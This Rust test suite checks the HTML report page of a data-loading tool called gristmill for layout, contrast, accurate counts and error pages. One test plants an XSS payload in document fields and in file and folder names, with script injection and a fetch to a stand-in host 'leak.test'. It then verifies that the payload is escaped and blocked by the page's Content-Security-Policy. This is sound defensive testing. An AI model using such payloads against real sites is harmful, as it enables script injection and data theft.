//! `gristmill report`: the page of a run, in a browser.

mod browser;

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::kit::{self, Place};
use crate::resume::Job;
use browser::{Browser, Look};

const LOOKS: [Look; 4] = [
    Look { width: 1100, dark: false },
    Look { width: 1100, dark: true },
    Look { width: 360, dark: false },
    Look { width: 360, dark: true },
];

impl Place {
    fn report(&self, more: &[&str]) -> PathBuf {
        self.call(&[&["report"], more].concat()).ok();
        self.path().join("report.html")
    }
}

/// Whatever the page, this holds, in both themes and at every width.
fn check(browser: &Browser, page: &Path, name: &str) -> Value {
    let mut last = Value::Null;
    for look in LOOKS {
        let seen = browser.measure(page, look);
        let at = format!("{name} {look:?}");
        assert_eq!(seen["width"], look.width, "{at}");
        assert_eq!(seen["scroll_width"], look.width, "{at}: {:#}", seen["wide"]);
        assert_eq!(seen["wide"], json!([]), "{at}");
        assert_eq!(seen["collisions"], json!([]), "{at}");
        assert!(seen["contrast"][0].as_f64().unwrap() >= 4.5, "{at}: {}", seen["contrast"]);
        assert_eq!(
            (&seen["foreign"], &seen["injected"], &seen["resources"]),
            (&json!(0), &Value::Null, &json!([])),
            "{at}"
        );
        let is_dark = seen["background"] != "rgb(255, 255, 255)";
        assert_eq!(is_dark, look.dark, "{at}");
        let height = u32::try_from(seen["height"].as_u64().unwrap()).unwrap().min(12_000);
        let theme = if look.dark { "dark" } else { "light" };
        let picture = browser.picture(page, look, height, &format!("{name}-{}-{theme}", look.width));
        let bytes = std::fs::read(&picture).unwrap();
        assert!(bytes.starts_with(b"\x89PNG") && bytes.len() > 10_000, "{}", picture.display());
        last = seen;
    }
    last
}

/// A number of the page, which is there once for people and once for programs.
fn number(seen: &Value, name: &str) -> Option<u64> {
    let both = &seen["data"][name];
    let n: u64 = both[0].as_str()?.parse().unwrap();
    assert_eq!(both[1].as_str().unwrap().replace(',', ""), n.to_string(), "{name}");
    Some(n)
}

fn assert_is_ledger(seen: &Value, summary: &Value) {
    let n = |pointer: &str| summary.pointer(pointer).and_then(Value::as_u64).unwrap_or_else(|| panic!("{pointer}"));
    assert_eq!(number(seen, "records.read"), Some(n("/records/read")));
    assert_eq!(number(seen, "top.read"), Some(n("/records/read")));
    assert_eq!(number(seen, "records.mapped"), Some(n("/records/mapped")));
    let sum = |prefix: &str| -> u64 {
        let names = seen["data"].as_object().unwrap().keys().filter(|name| name.starts_with(prefix));
        names.filter_map(|name| number(seen, name)).sum()
    };
    assert_eq!(sum("records.refused."), n("/records/refused"));
    assert_eq!(number(seen, "records.other").unwrap_or(0), n("/records/other"));
    assert_eq!(number(seen, "records.filtered").unwrap_or(0), n("/records/filtered"));
    let mut loaded = 0;
    for table in summary["rows"].as_array().unwrap() {
        let of = |what: &str| number(seen, &format!("rows.{}.{what}", table["table"].as_str().unwrap())).unwrap_or(0);
        for what in ["made", "inserted", "updated", "already", "duplicate", "collision", "invalid"] {
            assert_eq!(of(what), table[what].as_u64().unwrap(), "{what}");
        }
        loaded += of("inserted") + of("updated");
    }
    assert_eq!(number(seen, "top.loaded"), Some(loaded));
    let refusals = summary["refusals"].as_object().unwrap();
    for (code, n) in refusals {
        assert_eq!(number(seen, &format!("refused.{code}")), n.as_u64(), "{code}");
    }
    assert_eq!(number(seen, "top.refused"), Some(refusals.values().filter_map(Value::as_u64).sum()));
}

#[test]
fn a_real_run_in_both_themes_and_on_a_phone() {
    let (browser, place) = (Browser::new(), Place::new());
    let export = kit::export("yago");
    let arguments = ["run", &export, "--config", "overall-score-max=100", "--to", "sqlite:q.db", "--profile", "--json"];
    let summary = place.call(&arguments).ok().json();
    let page = place.report(&[]);
    let seen = check(&browser, &page, "yago");
    assert_is_ledger(&seen, &summary);
    let (h1, text) = (seen["h1"].as_str().unwrap(), seen["text"].as_str().unwrap());
    assert!(h1.starts_with("5,871 rows were loaded into SQLite database q.db in "), "{h1}");
    for part in [
        "insert_id",
        "Key: insert_id",
        "field metrics.overallScore",
        "overall-score-max",
        "100",
        summary["plugin_digest"].as_str().unwrap(),
        "6,210 documents, as its metadata says",
        "decode.type-mismatch",
    ] {
        assert!(text.contains(part), "`{part}` is not in:\n{text}");
    }
    // The profile: all rows have one source, and scores that are spread.
    let record = place.call(&["--json", "runs", "show"]).ok().json();
    let columns = record["details"]["profile"][0]["columns"].as_array().unwrap();
    let column = |name: &str| columns.iter().find(|c| c["name"] == name).unwrap();
    assert_eq!((&column("source")["distinct"], &column("source")["nulls"]), (&json!(1), &json!(0)));
    let db = rusqlite::Connection::open(place.path().join("q.db")).unwrap();
    let facts = "SELECT min(overallScore), max(overallScore), count(*) - count(overallScore), count(DISTINCT overallScore) FROM quality_stream";
    let (from, to, nulls, distinct): (f64, f64, u32, u32) =
        db.query_row(facts, [], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?))).unwrap();
    let score = column("overallScore");
    assert_eq!((score["from"].as_f64(), score["to"].as_f64()), (Some(from), Some(to)));
    assert_eq!(score["nulls"], nulls);
    let (found, distinct) = (score["distinct"].as_u64().unwrap(), u64::from(distinct));
    assert!(found.abs_diff(distinct) <= distinct / 10, "{found} for {distinct}");
    let counted: u64 = score["histogram"]["counts"].as_array().unwrap().iter().map(|n| n.as_u64().unwrap()).sum();
    assert_eq!(counted + u64::from(nulls), 5_871);
    let printed = browser.measure(&as_printed(&page), LOOKS[1]);
    assert_eq!(printed["background"], "rgb(255, 255, 255)", "in the colours of the day, whatever the theme");
    assert!(printed["contrast"][0].as_f64().unwrap() >= 4.5 && printed["wide"] == json!([]), "{printed}");
}

/// The page with what is meant for paper on the screen.
fn as_printed(page: &Path) -> PathBuf {
    let text = std::fs::read_to_string(page).unwrap();
    assert!(text.contains("@media print"));
    // Its style is another by that, which its policy would not allow.
    let (before, rest) = text.split_once("<meta http-equiv=\"Content-Security-Policy\"").unwrap();
    let rest = rest.split_once('>').unwrap().1.replace("@media print", "@media all");
    let printed = page.with_extension("printed.html");
    std::fs::write(&printed, format!("{before}{rest}")).unwrap();
    printed
}

/// Names and values that would be markup, in every place where something foreign comes to the page.
#[test]
fn hostile_documents_stay_text() {
    let (browser, place) = (Browser::new(), Place::new());
    const BAD: &str = "</pre></title></style>\"'><script>window.injected=1;fetch('http://leak.test/s')</script><img src=http://leak.test/i onerror=\"window.injected=2\">";
    let mut bad = kit::report("t", "r", "1", 7.0, "2024-01-01T00:00:00Z");
    bad["fields"]["note"] = json!({ "stringValue": BAD });
    let mut wrong = kit::report("t", "r", "2", 0.5, "2024-01-01T00:00:00Z");
    wrong["fields"]["metrics"] = json!({ "stringValue": BAD });
    let mut long = kit::report("t", "r", "3", 7.0, "2024-01-01T00:00:00Z");
    long["fields"]["note"] = json!({ "stringValue": format!("{}{BAD}", "w".repeat(1_500)) });
    let good = kit::report("t", "r", "4", 0.5, "2024-01-01T00:00:00Z");
    let folder = place.path().join("in<img src=http:leak.test onerror=injected=3>");
    std::fs::create_dir(&folder).unwrap();
    kit::write_lines(&folder.join("<script>injected=4<!--.json"), &[bad, wrong, long, good]);
    let summary = place.call(&["run", folder.to_str().unwrap(), "--json", "--profile"]).ok().json();
    let page = place.report(&[]);
    let seen = check(&browser, &page, "hostile");
    assert_is_ledger(&seen, &summary);
    let text = seen["text"].as_str().unwrap();
    assert!(
        text.contains("window.injected=1;fetch('http://leak.test/s')") && text.contains("onerror=injected=3"),
        "{text}"
    );
    assert_eq!(browser.asked_for("leak.test"), Vec::<String>::new());
    // None of it, where nothing of any document is wanted.
    let without = std::fs::read_to_string(place.report(&["--samples", "0"])).unwrap();
    assert!(!without.contains("window.injected"));

    // The browser would have told.
    let open = place.path().join("open.html");
    std::fs::write(
        &open,
        format!("<p style='width:900px;color:#eee'>x</p>{BAD}<svg><text y=9>a</text><text y=10>b</text></svg>"),
    )
    .unwrap();
    let seen = browser.measure(&open, LOOKS[2]);
    assert!(seen["scroll_width"].as_u64().unwrap() > 360 && !seen["wide"].as_array().unwrap().is_empty());
    assert!(seen["injected"].is_string() && seen["foreign"].as_u64().unwrap() >= 2);
    assert!(seen["contrast"][0].as_f64().unwrap() < 2.0 && seen["collisions"] == json!(["a / b"]), "{seen}");
    assert!(!browser.asked_for("leak.test").is_empty());
    // And the policy alone holds it back, should anything get through.
    let head = without.split_once("<body>").unwrap().0;
    let leaky = place.path().join("leaky.html");
    std::fs::write(&leaky, format!("{head}<body>{}", BAD.replace("leak.test", "held.test"))).unwrap();
    let seen = browser.measure(&leaky, LOOKS[2]);
    assert_eq!((&seen["injected"], seen["foreign"].as_u64()), (&Value::Null, Some(2)));
    assert_eq!(browser.asked_for("held.test"), Vec::<String>::new());
}

#[test]
fn runs_that_did_not_go_well() {
    let (browser, place) = (Browser::new(), Place::new());
    let export = kit::export("yago");
    let h1 = |name: &str| {
        let seen = check(&browser, &place.report(&[]), name);
        (seen["h1"].as_str().unwrap().to_owned(), seen["text"].as_str().unwrap().to_owned(), seen)
    };
    // A gate.
    place.call(&["run", &export, "--to", "sqlite:q.db", "--max-rejected", "1"]).fails(7, &["run.max-rejected"]);
    let (title, text, seen) = h1("refused");
    assert!(title.starts_with("A gate stopped the run after ") && title.ends_with("nothing was loaded."), "{title}");
    assert!(text.contains("run.max-rejected") && text.contains("not loaded"), "{text}");
    assert_eq!(number(&seen, "top.loaded"), Some(0));
    // A file that ends too early.
    let broken = place.path().join("broken");
    std::fs::create_dir(&broken).unwrap();
    std::fs::write(broken.join("a.json"), "{\"documents\": [\n").unwrap();
    place.call(&["run", "broken", "--to", "sqlite:q.db"]).fails(3, &["decode.truncated"]);
    let (title, text, _) = h1("failed");
    assert!(title.starts_with("The run failed after "), "{title}");
    assert!(text.contains("decode.truncated") && text.contains("To do:"), "{text}");
    // Nothing to read.
    std::fs::write(place.path().join("empty.ndjson"), "").unwrap();
    place.call(&["run", "empty.ndjson", "--to", "sqlite:q.db"]).ok();
    let (title, _, seen) = h1("empty");
    assert_eq!(title, "The input holds no documents, so nothing was loaded into SQLite database q.db.");
    assert_eq!(number(&seen, "records.read"), Some(0));
    // The same job again.
    for _ in 0..2 {
        place.call(&["run", &export, "--to", "sqlite:twice.db", "--config", "overall-score-max=100"]).ok();
    }
    let (title, ..) = h1("again");
    assert_eq!(title, "Nothing was new: SQLite database twice.db held all 5,871 rows already, and 129 were refused.");
}

#[test]
fn a_run_that_was_killed_and_went_on() {
    let browser = Browser::new();
    let job = Job::new(20_000, "sqlite:q.db", &[]);
    job.killed_after(5, &[]);
    let page = job.path().join("report.html");
    job.call(&["report"]).ok();
    let seen = check(&browser, &page, "killed");
    assert_eq!(seen["h1"], "The process of the run is gone without a word.");
    assert!(seen["text"].as_str().unwrap().contains("gristmill resume "));
    let summary = job.run(&[]).ok().json();
    job.call(&["report"]).ok();
    let seen = check(&browser, &page, "resumed");
    assert_is_ledger(&seen, &summary);
    assert!(seen["text"].as_str().unwrap().contains("in 2 processes"), "{seen}");
}

#[test]
fn letters_that_are_gone_or_others_are_said_to_be() {
    let place = Place::new();
    let export = kit::export("yago");
    place.call(&["run", &export, "--to", "sqlite:q.db", "--dead-letters", "dead.jsonl"]).ok();
    let page = |what: &str| {
        let text = std::fs::read_to_string(place.report(&[])).unwrap();
        assert!(text.contains(what), "`{what}` is not in the page");
        text
    };
    assert!(page("sample").contains("&quot;name&quot;: &quot;projects/"));
    let dead = place.path().join("dead.jsonl");
    let letters = std::fs::read_to_string(&dead).unwrap();
    let redacted: Vec<String> = letters
        .lines()
        .map(|line| {
            let mut letter: Value = serde_json::from_str(line).unwrap();
            letter.as_object_mut().unwrap().retain(|name, _| !["document", "raw", "raw_hex"].contains(&name.as_str()));
            letter.to_string()
        })
        .collect();
    // Whatever the order of its fields.
    std::fs::write(&dead, redacted.join("\n")).unwrap();
    page("The document is not in the letter.");
    std::fs::write(&dead, letters.replace("{\"run\":\"2", "{\"run\":\"1")).unwrap();
    page("those of another run by now");
    std::fs::remove_file(&dead).unwrap();
    page("The dead letters are not at ");
}

#[test]
fn where_the_page_goes() {
    let place = Place::new();
    place.call(&["report"]).fails(2, &["cli.no-runs", "there are no runs in"]);
    place.call(&["run", &kit::export("empty"), "--to", "sqlite:q.db"]);
    let out = place.call(&["report", "-o", "-"]).ok().stdout;
    assert!(out.starts_with("<!doctype html>") && out.ends_with("</html>\n"));
    assert_eq!(std::fs::read_to_string(place.report(&[])).unwrap(), out, "the same run, the same page");
    std::fs::write(place.path().join("notes.html"), "<p>mine</p>").unwrap();
    place.call(&["report", "-o", "notes.html"]).fails(2, &["cli.report", "notes.html", "--output"]);
    assert_eq!(std::fs::read_to_string(place.path().join("notes.html")).unwrap(), "<p>mine</p>");
    place.call(&["report", "none"]).fails(2, &["state.no-run"]);
}
